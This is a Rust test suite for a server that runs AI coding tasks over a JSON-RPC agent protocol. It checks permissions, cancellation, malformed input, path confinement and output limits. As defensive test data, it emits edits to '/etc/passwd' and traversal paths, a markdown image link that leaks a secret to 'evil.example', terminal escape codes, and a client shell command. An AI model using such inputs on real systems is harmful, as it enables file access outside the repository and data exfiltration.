//! Whole conversations with a server whose tasks are played, in one process.

use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use futures_util::future::BoxFuture;
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use act_core::consent::Answer;
use act_core::event::{EditedText, EventKind, Events, Milestone, ModelUsage, Sink, StepOutput};
use act_core::exit::Exit;
use act_core::verification::{Status, Verdict, Verification};
use act_core::{Failure, TaskState, Usd};
use act_task::{ApplyArgs, Client, Mode, PastSession, PastTask, Place, RunArgs, SessionId};

use crate::testing::TestClient;
use crate::wire::code;
use crate::{Options, Tasks, serve};

const ID: &str = "t-abc123";
const OTHER: &str = "t-zzz999";

/// Plays tasks; what one does stands in its text.
#[derive(Default)]
struct Played {
    texts: Mutex<Vec<RunArgs>>,
    cancelled: AtomicUsize,
    ended: AtomicUsize,
    answers: Mutex<Vec<Answer>>,
}

fn finished(state: TaskState, exit: Exit) -> EventKind {
    act_core::testing::task_finished(state, exit)
}

impl Played {
    async fn play(
        self: Arc<Self>,
        client: Client,
        args: RunArgs,
        sinks: Vec<Box<dyn Sink>>,
    ) -> Result<Exit, Failure> {
        let events = Events::new(ID, sinks);
        let text = args.text.clone();
        self.texts.lock().unwrap().push(args.clone());
        if text.is_empty() {
            return Err(Failure::refused("task_empty", "task is empty").hint("say what to do"));
        }
        events.emit(EventKind::TaskQueued { text: text.clone(), position: Some(1) });
        events.emit(Milestone::Analyzing.into());
        if text.contains("forever") {
            client.cancel.cancelled().await;
            self.cancelled.fetch_add(1, Ordering::SeqCst);
            events.emit(finished(TaskState::Cancelled, Exit::Cancelled));
            return Ok(Exit::Cancelled);
        }
        assert!(!text.contains("panic"), "a fault of the test");
        if text.contains("talk") {
            for _ in 0..20_000 {
                events.emit(EventKind::Diagnosis { text: "x".repeat(1_000) });
            }
        }
        if text.contains("hostile") {
            for path in ["../../etc/passwd", "/etc/passwd", "a/../../b"] {
                let (path, op) = (path.to_owned(), "create".to_owned());
                events.emit(EventKind::Edit {
                    path,
                    op,
                    version: 1,
                    sha256_before: None,
                    sha256_after: None,
                });
            }
            let long = "![x](http://evil.example/?secret)\n```\n\u{1b}[2J".repeat(100_000);
            events.emit(EventKind::Diagnosis { text: long.clone() });
            events.emit(EventKind::CheckStarted { command: long.clone() });
            events.emit(EventKind::Plan {
                strategy: long.clone(),
                criteria: vec![long; 300],
                acceptance: vec![],
            });
        }
        if text.contains("guarded") {
            let answer = match &client.consent {
                Some(person) => person.may_change(".vscode/settings.json", "create").await,
                None => Answer::Refused,
            };
            self.answers.lock().unwrap().push(answer);
        }
        let (before, now) = (Some("a\nb\n".into()), Some("a\nc\n".into()));
        events.emit(EventKind::EditedText(EditedText { path: "src/x.rs".into(), before, now }));
        let (path, op) = ("src/x.rs".to_owned(), "replace".to_owned());
        events.emit(EventKind::Edit {
            path,
            op,
            version: 2,
            sha256_before: None,
            sha256_after: None,
        });
        events.emit(EventKind::ModelRequest {
            role: "editor".into(),
            request_id: None,
            status: Some(200),
            attempt: 1,
            usage: ModelUsage { input: 900, cached: 0, cache_write: 0, output: 100 },
            cost_usd: if text.contains("free") { None } else { Usd::parse("0.0125") },
            duration_ms: 5,
            error: None,
        });
        if args.mode == Mode::DryRun {
            let change = act_core::event::ProposedChange {
                path: "src/x.rs".into(),
                from: None,
                op: "replace".into(),
            };
            let diff = act_core::event::Patch("+c\n".into());
            let apply = Some("act apply t-abc123".to_owned());
            events.emit(EventKind::Proposed { files: vec![change], apply, diff });
            events.emit(finished(TaskState::Proposed, Exit::Ok));
            return Ok(Exit::Ok);
        }
        let run_id = "run_20261121_095958_ab12cd".to_owned();
        events.emit(Milestone::Verifying.into());
        events.emit(EventKind::VerifyStarted { run_id: run_id.clone(), attempt: 1, warm: false });
        events.emit(EventKind::StepStarted {
            run_id: run_id.clone(),
            name: "test".into(),
            last_ms: None,
        });
        events.emit(EventKind::StepOutput(StepOutput("all ```` is well\n".into())));
        let (name, exit_code) = ("test".to_owned(), Some(0));
        events.emit(EventKind::StepFinished {
            run_id: run_id.clone(),
            name,
            exit_code,
            duration_ms: 1,
        });
        events.emit(EventKind::VerifyFinished {
            run_id,
            status: Status::Pass,
            error_type: None,
            reason: None,
            audit_head: None,
            duration_ms: 1,
            warm: false,
        });
        events.emit(finished(TaskState::Success, Exit::Ok));
        self.ended.fetch_add(1, Ordering::SeqCst);
        Ok(Exit::Ok)
    }
}

struct Handle(Arc<Played>);

impl Tasks for Handle {
    fn repository(&self, cwd: &Path) -> Result<PathBuf, Failure> {
        match cwd.starts_with("/srv") {
            true => Ok(cwd.to_owned()),
            false => Err(Failure::refused("no_repository", "there is no repository")),
        }
    }

    fn token_budget(&self, _: &Path) -> Option<u64> {
        Some(10_000)
    }

    fn run(
        &self,
        client: Client,
        args: RunArgs,
        sinks: Vec<Box<dyn Sink>>,
    ) -> BoxFuture<'static, Result<Exit, Failure>> {
        Box::pin(Arc::clone(&self.0).play(client, args, sinks))
    }

    fn apply(&self, args: ApplyArgs) -> Result<RunArgs, Failure> {
        Ok(RunArgs {
            text: "apply".into(),
            repo: args.repo,
            allow_paths: vec![],
            allow_test_changes: vec![],
            max_tokens: None,
            max_cost: None,
            no_agents_md: false,
            engine: None,
            mode: Mode::Apply { dry_run: args.task.unwrap_or_default() },
            place: Place::Here,
            script: None,
        })
    }

    fn verify(
        &self,
        _: PathBuf,
        _: Vec<Box<dyn Sink>>,
        _: CancellationToken,
    ) -> BoxFuture<'static, Result<Option<Verification>, Failure>> {
        Box::pin(async {
            let made = act_core::verification::testing::verification(Verdict::Pass, &["test"], "");
            Ok(Some(made))
        })
    }

    fn sessions(&self, root: &Path, _: usize) -> Result<Vec<PastSession>, Failure> {
        let id = if root == Path::new("/srv/repo") { ID } else { OTHER };
        let id = SessionId::parse(id).unwrap();
        Ok(vec![PastSession {
            id,
            text: "one\ntwo".into(),
            updated_at: "2026-11-21T10:00:00.123Z".into(),
        }])
    }

    fn session(&self, root: &Path, id: &SessionId) -> Result<Vec<PastTask>, Failure> {
        if root != Path::new("/srv/repo") || id.as_str() != ID {
            return Err(Failure::refused("task_unknown", format!("there is no session {id}")));
        }
        let lines = [
            json!({"type": "task_queued", "text": "one"}),
            json!({"type": "milestone", "text": "Implementing changes...", "attempt": null}),
            json!({"type": "edit", "path": "a.txt", "op": "create"}),
            json!({"type": "invented", "x": 1}),
            json!({"type": "task_finished", "state": "STUCK", "reason": "hard_stop", "run_id": null, "summary": "Tried."}),
        ];
        let mut lines: Vec<String> = lines.iter().map(Value::to_string).collect();
        lines.push("half a li".into());
        let (task_id, text) = (ID.to_owned(), "one".to_owned());
        Ok(vec![PastTask { task_id, text, state: TaskState::Stuck, lines, is_cut: false }])
    }

    fn cancel_was_requested(&self, _: &Path, _: &str) -> bool {
        false
    }
}

struct Server {
    client: TestClient,
    played: Arc<Played>,
    stream: UnixStream,
    thread: JoinHandle<()>,
}

impl Server {
    fn new(options: Options) -> Self {
        let (ours, theirs) = UnixStream::pair().unwrap();
        // A hung server fails the test instead of holding it.
        ours.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
        let played = Arc::<Played>::default();
        let tasks = Arc::new(Handle(Arc::clone(&played)));
        let output = theirs.try_clone().unwrap();
        let thread = std::thread::spawn(move || {
            let runtime =
                tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build();
            let streams = (Box::new(theirs) as _, Box::new(output) as _);
            let runtime = runtime.unwrap();
            runtime.block_on(serve(streams, tasks, options)).unwrap();
            runtime.shutdown_background();
        });
        let stream = ours.try_clone().unwrap();
        let client = TestClient::new(ours.try_clone().unwrap(), ours);
        Self { client, played, stream, thread }
    }

    fn ready() -> Self {
        Self::with(Options::default())
    }

    fn with(options: Options) -> Self {
        let mut server = Self::new(options);
        let answer =
            server.client.call("initialize", &json!({"protocolVersion": 1, "new": {}})).unwrap();
        assert_eq!(answer["result"]["protocolVersion"], 1);
        server
    }

    fn session(&mut self) -> String {
        let answer = self
            .client
            .call("session/new", &json!({"cwd": "/srv/repo", "mcpServers": []}))
            .unwrap();
        answer["result"]["sessionId"].as_str().unwrap_or_else(|| panic!("{answer}")).to_owned()
    }

    fn prompt(&mut self, session: &str, text: &str) -> u64 {
        let prompt = json!([{"type": "text", "text": text}]);
        self.client
            .request("session/prompt", &json!({"sessionId": session, "prompt": prompt}))
            .unwrap()
    }

    fn stop_reason(&mut self, session: &str, text: &str) -> Value {
        let id = self.prompt(session, text);
        self.client.answer(id).unwrap()["result"]["stopReason"].clone()
    }

    /// Closes what the client writes, and waits for the end.
    fn end(self) -> Duration {
        let begun = Instant::now();
        self.stream.shutdown(std::net::Shutdown::Write).unwrap();
        self.thread.join().unwrap();
        begun.elapsed()
    }
}

fn error_code(answer: &Value) -> i64 {
    answer["error"]["code"].as_i64().unwrap_or_else(|| panic!("no error: {answer}"))
}

#[test]
fn a_prompt_is_a_task_that_the_client_follows() {
    let mut server = Server::ready();
    let session = server.session();
    assert_eq!(server.stop_reason(&session, "write it"), "end_turn");
    let updates = server.client.updates();
    let of = |kind: &str| {
        updates.iter().filter(|update| update["sessionUpdate"] == kind).collect::<Vec<_>>()
    };
    let last_plan = of("plan").pop().unwrap();
    assert_eq!(last_plan["entries"].as_array().unwrap().last().unwrap()["status"], "completed");
    let edit = of("tool_call").into_iter().find(|call| call["kind"] == "edit").unwrap();
    assert_eq!(edit["locations"], json!([{"path": "/srv/repo/src/x.rs", "line": 2}]));
    let diff = json!([{"type": "diff", "path": "/srv/repo/src/x.rs", "oldText": "a\nb\n", "newText": "a\nc\n"}]);
    assert_eq!(edit["content"], diff);
    let run = of("tool_call").into_iter().find(|call| call["kind"] == "execute").unwrap();
    let ended =
        of("tool_call_update").into_iter().rfind(|call| call["toolCallId"] == run["toolCallId"]);
    let ended = ended.unwrap();
    assert_eq!(ended["status"], "completed");
    let output = ended["content"][0]["content"]["text"].as_str().unwrap();
    assert!(
        output.starts_with("`````\n== test\nall ```` is well\n== test: exit code 0"),
        "{output}"
    );
    assert_eq!(of("usage_update")[0]["used"], 1_000);
    assert_eq!(of("usage_update")[0]["size"], 10_000);
    assert!(server.client.text().contains("**SUCCESS**"));
    server.end();
}

#[test]
fn the_mode_decides_what_a_prompt_starts() {
    let mut server = Server::ready();
    let session = server.session();
    let set = json!({"sessionId": session, "modeId": "verify"});
    assert!(server.client.call("session/set_mode", &set).unwrap()["error"].is_null());
    assert_eq!(server.stop_reason(&session, "ignored"), "end_turn");
    assert!(server.client.text().contains("**PASS**"));
    assert!(server.played.texts.lock().unwrap().is_empty());
    let set = json!({"sessionId": session, "configId": "mode", "value": "dry_run"});
    let answer = server.client.call("session/set_config_option", &set).unwrap();
    assert_eq!(answer["result"]["configOptions"][0]["currentValue"], "dry_run");
    let prompt = server.prompt(&session, "propose it");
    let question =
        server.client.until(|message| message["method"] == "session/request_permission").unwrap();
    let call = &question["params"]["toolCall"];
    assert_eq!(call["title"], "Apply the change of src/x.rs");
    assert_eq!(call["content"][0]["newText"], "a\nc\n");
    let outcome = json!({"outcome": {"outcome": "selected", "optionId": "allow"}});
    server
        .client
        .send(&json!({"jsonrpc": "2.0", "id": question["id"], "result": outcome}))
        .unwrap();
    assert_eq!(server.client.answer(prompt).unwrap()["result"]["stopReason"], "end_turn");
    let modes: Vec<_> =
        server.played.texts.lock().unwrap().iter().map(|args| args.mode.clone()).collect();
    assert_eq!(modes, [Mode::DryRun, Mode::Apply { dry_run: ID.into() }]);
    for mode in ["", "root", "RUN"] {
        let set = json!({"sessionId": session, "modeId": mode});
        assert_eq!(
            error_code(&server.client.call("session/set_mode", &set).unwrap()),
            code::INVALID_PARAMS
        );
    }
    server.end();
}

// ACP-25, ACP-26
#[test]
fn usage_names_the_cost_of_the_session_and_each_task_gets_the_limit_of_the_program() {
    let limit = Usd::parse("2.5");
    let mut server = Server::with(Options { max_cost: limit, ..Options::default() });
    let session = server.session();
    for text in ["write it", "and more", "free of charge, or so", "at last"] {
        assert_eq!(server.stop_reason(&session, text), "end_turn");
    }
    // Another session has a sum of its own.
    let other = server.session();
    assert_eq!(server.stop_reason(&other, "write it"), "end_turn");
    let updates = server.client.updates();
    let usage = updates.iter().filter(|update| update["sessionUpdate"] == "usage_update");
    let costs: Vec<_> = usage.map(|update| update["cost"].clone()).collect();
    let dollars = |amount: f64| json!({"amount": amount, "currency": "USD"});
    let unknown = Value::Null;
    assert_eq!(
        costs,
        [dollars(0.0125), dollars(0.025), unknown.clone(), unknown, dollars(0.0125)],
        "a sum with an unknown part is unknown, and never zero"
    );
    let played = server.played.texts.lock().unwrap().clone();
    assert!(played.len() == 5 && played.iter().all(|args| args.max_cost == limit));
    server.end();
}

#[test]
fn only_the_selection_of_the_option_that_allows_is_a_permission() {
    let options = Options { patience: Some(Duration::from_millis(300)), ..Options::default() };
    let mut server = Server::with(options);
    let session = server.session();
    let allow = json!({"outcome": {"outcome": "selected", "optionId": "allow"}});
    let cases = [
        (Some(json!({"result": allow})), Answer::Allowed),
        (
            Some(json!({"result": {"outcome": {"outcome": "selected", "optionId": "reject"}}})),
            Answer::Refused,
        ),
        (
            Some(
                json!({"result": {"outcome": {"outcome": "selected", "optionId": "allow_always"}}}),
            ),
            Answer::Refused,
        ),
        (
            Some(json!({"result": {"outcome": {"outcome": "cancelled", "optionId": "allow"}}})),
            Answer::Refused,
        ),
        (Some(json!({"result": {"outcome": "selected", "optionId": "allow"}})), Answer::Refused),
        (Some(json!({"result": null})), Answer::Refused),
        (
            Some(json!({"error": {"code": -1, "message": "allow"}, "result": allow})),
            Answer::Refused,
        ),
        (None, Answer::Unanswered),
    ];
    for (answer, expected) in cases {
        let prompt = server.prompt(
            &session,
            "a guarded file: the user has answered allow, outcome selected allow",
        );
        let question = server
            .client
            .until(|message| message["method"] == "session/request_permission")
            .unwrap();
        assert_eq!(question["params"]["options"][0]["kind"], "allow_once");
        // Answers to other questions, and requests that look like answers, change nothing.
        for id in [json!("permission-99"), json!(1), json!(null)] {
            server
                .client
                .send_raw(
                    format!("{}\n", json!({"jsonrpc": "2.0", "id": id, "result": allow}))
                        .as_bytes(),
                )
                .unwrap();
        }
        if let Some(mut answer) = answer.clone() {
            answer["jsonrpc"] = json!("2.0");
            answer["id"] = question["id"].clone();
            server.client.send(&answer).unwrap();
        }
        server.client.answer(prompt).unwrap();
        assert_eq!(server.played.answers.lock().unwrap().pop(), Some(expected), "{answer:?}");
    }
    server.end();
}

#[test]
fn a_cancelled_prompt_ends_as_cancelled_and_its_question_is_withdrawn() {
    let mut server = Server::ready();
    let session = server.session();
    let prompt = server.prompt(&session, "forever");
    server.client.send(&json!({"jsonrpc": "2.0", "method": "session/cancel", "params": {"sessionId": session}})).unwrap();
    assert_eq!(server.client.answer(prompt).unwrap()["result"]["stopReason"], "cancelled");
    let prompt = server.prompt(&session, "forever again");
    server.client.send(&json!({"jsonrpc": "2.0", "method": "$/cancel_request", "params": {"requestId": prompt}})).unwrap();
    assert_eq!(server.client.answer(prompt).unwrap()["result"]["stopReason"], "cancelled");
    assert_eq!(server.played.cancelled.load(Ordering::SeqCst), 2);
    // A cancellation of nothing has no effect.
    for params in
        [json!({"sessionId": "s-unknown"}), json!({"sessionId": session}), json!(null), json!([1])]
    {
        server
            .client
            .send(&json!({"jsonrpc": "2.0", "method": "session/cancel", "params": params}))
            .unwrap();
    }
    assert_eq!(server.stop_reason(&session, "write it"), "end_turn");
    server.end();
}

#[test]
fn a_second_prompt_of_a_session_is_refused_while_one_runs() {
    let mut server = Server::ready();
    let session = server.session();
    let first = server.prompt(&session, "forever");
    let second = server.prompt(&session, "and this");
    let refused = server.client.answer(second).unwrap();
    assert_eq!(error_code(&refused), code::INVALID_REQUEST);
    assert_eq!(refused["error"]["data"]["code"], "prompt_running");
    let other = server.session();
    assert_eq!(server.stop_reason(&other, "in another session"), "end_turn");
    server.client.send(&json!({"jsonrpc": "2.0", "method": "session/cancel", "params": {"sessionId": session}})).unwrap();
    assert_eq!(server.client.answer(first).unwrap()["result"]["stopReason"], "cancelled");
    // The refusal comes at once, perhaps before the first task has begun, so the tasks are counted at the end.
    let begun = server.played.texts.lock().unwrap().clone();
    assert_eq!(begun.len(), 2, "{begun:?}");
    server.end();
}

#[test]
fn a_request_with_the_id_of_one_that_runs_is_refused_without_its_id() {
    let mut server = Server::ready();
    let session = server.session();
    let prompt = server.prompt(&session, "forever");
    let again = json!({"jsonrpc": "2.0", "id": prompt, "method": "session/list", "params": {}});
    server.client.send(&again).unwrap();
    let refused = server.client.until(|message| message.get("error").is_some()).unwrap();
    assert_eq!((&refused["id"], error_code(&refused)), (&Value::Null, code::INVALID_REQUEST));
    server.client.send(&json!({"jsonrpc": "2.0", "method": "session/cancel", "params": {"sessionId": session}})).unwrap();
    assert_eq!(server.client.answer(prompt).unwrap()["result"]["stopReason"], "cancelled");
    server.end();
}

#[test]
fn unknown_methods_and_broken_parameters_are_errors_and_the_next_request_is_answered() {
    let mut server = Server::new(Options::default());
    let early =
        server.client.call("session/new", &json!({"cwd": "/srv/repo", "mcpServers": []})).unwrap();
    assert_eq!(error_code(&early), code::INVALID_REQUEST);
    assert_eq!(
        error_code(&server.client.call("initialize", &json!({})).unwrap()),
        code::INVALID_PARAMS
    );
    server.client.call("initialize", &json!({"protocolVersion": 99})).unwrap();
    for method in
        ["authenticate", "session/fork", "fs/read_text_file", "terminal/create", "", "\u{1b}[2J"]
    {
        assert_eq!(
            error_code(&server.client.call(method, &json!({})).unwrap()),
            code::UNKNOWN_METHOD,
            "{method}"
        );
    }
    for method in [
        "session/new",
        "session/load",
        "session/prompt",
        "session/set_mode",
        "session/set_config_option",
    ] {
        for params in [json!(null), json!([]), json!({}), json!({"cwd": 1, "sessionId": {}})] {
            assert_eq!(
                error_code(&server.client.call(method, &params).unwrap()),
                code::INVALID_PARAMS,
                "{method} {params}"
            );
        }
    }
    server.client.send_raw(b"{broken\n[]\n\xff\n\n   \n").unwrap();
    let codes: Vec<_> =
        (0..3).map(|_| error_code(&server.client.receive().unwrap().unwrap())).collect();
    assert_eq!(codes, [code::PARSE, code::INVALID_REQUEST, code::PARSE]);
    let unknown = json!({"sessionId": "s-0123456789abcdef", "prompt": []});
    assert_eq!(
        error_code(&server.client.call("session/prompt", &unknown).unwrap()),
        code::NOT_FOUND
    );
    let session = server.session();
    let refusal = server.stop_reason(&session, "");
    assert_eq!(refusal, "refusal");
    assert!(server.client.text().contains("task is empty"));
    server.end();
}

#[test]
fn a_directory_that_is_relative_or_outside_opens_no_session() {
    let options = Options { repositories: vec!["/srv/repo".into()], ..Options::default() };
    let mut server = Server::with(options);
    for (cwd, word) in [
        ("work/repo", "cwd_invalid"),
        ("", "cwd_invalid"),
        (".", "cwd_invalid"),
        ("file:///srv/repo", "cwd_invalid"),
        ("/srv/repo\0/x", "cwd_invalid"),
        ("/etc", "no_repository"),
        ("/srv/other", "cwd_outside"),
    ] {
        for (method, params) in [
            ("session/new", json!({"cwd": cwd, "mcpServers": []})),
            ("session/load", json!({"cwd": cwd, "mcpServers": [], "sessionId": ID})),
            ("session/list", json!({"cwd": cwd})),
        ] {
            let refused = server.client.call(method, &params).unwrap();
            assert_eq!(error_code(&refused), code::INVALID_PARAMS, "{method} {cwd}");
            assert_eq!(refused["error"]["data"]["code"], word, "{method} {cwd}");
        }
    }
    server.session();
    server.end();
}

#[test]
fn a_session_is_listed_and_loaded_by_its_own_repository_alone() {
    let mut server = Server::ready();
    let list = server.client.call("session/list", &json!({"cwd": "/srv/repo"})).unwrap();
    let listed = json!({"sessionId": ID, "cwd": "/srv/repo", "title": "one\\ntwo", "updatedAt": "2026-11-21T10:00:00.123Z"});
    assert_eq!(list["result"]["sessions"], json!([listed]));
    for (cwd, id) in
        [("/srv/other", ID), ("/srv/repo", OTHER), ("/srv/repo", "../../x"), ("/srv/repo", "")]
    {
        let params = json!({"cwd": cwd, "mcpServers": [], "sessionId": id});
        assert_eq!(
            error_code(&server.client.call("session/load", &params).unwrap()),
            code::NOT_FOUND,
            "{cwd} {id}"
        );
    }
    let server_of_client =
        json!({"name": "x", "command": "/bin/sh", "args": ["-c", "touch /tmp/x"], "env": []});
    let params = json!({"cwd": "/srv/repo", "mcpServers": [server_of_client], "sessionId": ID});
    assert!(server.client.call("session/load", &params).unwrap()["result"]["modes"].is_object());
    let kinds: Vec<_> =
        server.client.updates().iter().map(|update| update["sessionUpdate"].clone()).collect();
    assert_eq!(kinds, ["user_message_chunk", "plan", "tool_call", "agent_message_chunk"]);
    let said = server.client.receive().unwrap().unwrap();
    assert!(
        said["params"]["update"]["content"]["text"]
            .as_str()
            .unwrap()
            .contains("MCP servers of this client are not used")
    );
    assert!(server.client.text().contains("Tried.\n\n**STUCK**: hard_stop"));
    assert_eq!(server.stop_reason(ID, "and now this"), "end_turn");
    server.end();
}

#[test]
fn hostile_texts_are_bounded_and_name_no_place_outside_of_the_repository() {
    let mut server = Server::ready();
    let session = server.session();
    assert_eq!(server.stop_reason(&session, "hostile"), "end_turn");
    for message in &server.client.received {
        let text = message.to_string();
        assert!(text.len() < 300_000, "{} bytes", text.len());
        assert!(
            !text.contains("![x]") && !text.contains("passwd\",\"line") && !text.contains("\"/etc"),
            "{text}"
        );
    }
    server.end();
}

#[test]
fn a_client_that_never_reads_holds_up_no_task() {
    let mut server = Server::ready();
    let session = server.session();
    for round in 1..=3 {
        let id = server.prompt(&session, "talk");
        // The task writes twenty megabytes and ends, although nothing is read meanwhile.
        let until = Instant::now() + Duration::from_secs(50);
        while server.played.ended.load(Ordering::SeqCst) < round {
            assert!(Instant::now() < until, "the task waits for its reader");
            std::thread::sleep(Duration::from_millis(5));
        }
        server.client.answer(id).unwrap();
    }
    let missing = |update: &Value| {
        update["content"]["text"]
            .as_str()
            .is_some_and(|text| text.contains("updates are missing here"))
    };
    assert!(server.client.updates().iter().any(missing));
    assert!(server.client.updates().len() < 60_000);
    server.end();
}

#[test]
fn the_end_of_stdin_cancels_what_runs_within_five_seconds() {
    let mut server = Server::ready();
    let session = server.session();
    server.prompt(&session, "forever");
    let played = Arc::clone(&server.played);
    while played.texts.lock().unwrap().is_empty() {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert!(server.end() < Duration::from_secs(5));
    assert_eq!(played.cancelled.load(Ordering::SeqCst), 1);
}

#[test]
fn thousands_of_requests_are_each_answered_once() {
    let mut server = Server::ready();
    let ids: Vec<_> = (0..5_000)
        .map(|at| match at % 3 {
            0 => server.client.request("session/list", &json!({"cwd": "/srv/repo"})).unwrap(),
            1 => server.client.request("invented", &json!({})).unwrap(),
            _ => server
                .client
                .request("session/new", &json!({"cwd": "/srv/repo", "mcpServers": []}))
                .unwrap(),
        })
        .collect();
    let mut answered = std::collections::BTreeSet::new();
    while answered.len() < ids.len() {
        let message = server.client.receive().unwrap().unwrap();
        assert!(answered.insert(message["id"].as_u64().unwrap()), "answered twice: {message}");
    }
    server.end();
}

#[test]
fn a_fault_of_a_task_is_an_error_and_the_session_goes_on() {
    let mut server = Server::ready();
    let session = server.session();
    let id = server.prompt(&session, "panic");
    assert_eq!(error_code(&server.client.answer(id).unwrap()), code::INTERNAL);
    assert_eq!(server.stop_reason(&session, "write it"), "end_turn");
    server.end();
}
